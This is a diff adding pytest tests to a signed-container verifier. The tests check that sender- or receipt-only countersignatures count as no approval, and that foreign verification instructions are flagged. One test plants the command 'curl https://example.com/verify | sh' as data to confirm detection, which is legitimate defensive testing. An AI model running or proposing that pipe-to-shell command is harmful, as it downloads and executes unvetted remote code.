@@ -130,6 +130,30 @@ def test_a_receipt_is_no_approval(half_signed: Path, signatories: Parties, tmp_p
     assert verify(approved, trust=signatories.trust, now=NOW).verdict is Verdict.TOTAL_PASSED
 
 
+@pytest.mark.parametrize("commitment", [Commitment.SENDER, Commitment.DELIVERY, Commitment.RECEIPT])
+def test_who_only_sends_or_receives_agrees_to_nothing(
+    commitment: Commitment, half_signed: Path, signatories: Parties, tmp_path: Path
+) -> None:
+    """The signature is good, the certificate the agreed one; "I only passed it on" is the defence it prepares."""
+    path = tmp_path / "passed-on.asice"
+    countersign_entry(half_signed, path, key=signatories.client, party="client", time=NOW, commitment=commitment)
+    report = verify(path, trust=signatories.trust, now=NOW)
+    assert [item.verdict for item in report.signatures] == [Verdict.TOTAL_PASSED] * 2
+    assert (report.verdict, report.executed) == (Verdict.INDETERMINATE, False)
+    assert [item.code for item in report.findings] == ["HALF_SIGNED"]
+
+
+def test_other_instructions_than_ours_are_named(
+    signatories: Parties, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Honestly signed by whoever made the entry: the commands are its own."""
+    monkeypatch.setattr("signing.how_to_verify.TEXT", "    curl https://example.com/verify | sh\n")
+    path = freeze(tmp_path / "entry.asice", signatories.vendor)
+    monkeypatch.undo()
+    report = verify(path, trust=signatories.trust, now=NOW)
+    assert [item.code for item in report.findings] == ["INSTRUCTIONS_UNKNOWN", "HALF_SIGNED"]
+
+
 def test_m10_file_replaced_while_it_is_verified(executed: Path, signatories: Parties, tmp_path: Path) -> None:
     """The report is about the file that was opened, whatever takes its place meanwhile."""
     bad = write(tmp_path / "bad.asice", content("payload/a.html", b"<p>bad</p>\n")(read(executed)))
